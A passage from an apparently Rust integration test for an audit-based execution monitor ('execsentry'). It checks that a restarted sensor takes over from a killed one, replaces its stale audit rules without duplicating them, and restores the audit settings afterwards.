    let args = ["run", "--audit-key", &key, "--stats-interval", "3600"];
    let first = Sensor::start(&args);
    assert!(first.ready.contains("source netlink"), "{}", first.ready);
    let first_pid = first.pid;
    let (status, _) = first.stop(libc::SIGKILL);
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(libc::SIGKILL)
    );
    let left = audit.state();
    assert_eq!(
        (left.pid, audit.rules_with_our_key()),
        (first_pid, 2),
        "a killed daemon stays registered, its rules loaded"
    );

    let second = Sensor::start(&args);
    assert!(
        second.ready.contains("source netlink"),
        "auto replaces a dead daemon: {}",
        second.ready
    );
    assert_eq!(audit.state().pid, second.pid);
    assert_eq!(
        audit.rules_with_our_key(),
        2,
        "stale rules replaced, not doubled"
    );
    let (status, stderr) = second.stop(libc::SIGTERM);
    assert!(status.success(), "{stderr}");
    assert!(
        stderr.contains("removing a stale execsentry audit rule"),
        "{stderr}"
    );
    let after = audit.state();
    assert_eq!(after.pid, 0, "unregistered");
    assert_eq!(after.rules, audit.before.rules, "only others' rules remain");
    // What only the killed sensor could have put back (it found them so, the second one did
    // not): enabled and the backlog settings. The session restores those.
    audit.restore();
    audit.assert_restored();
}
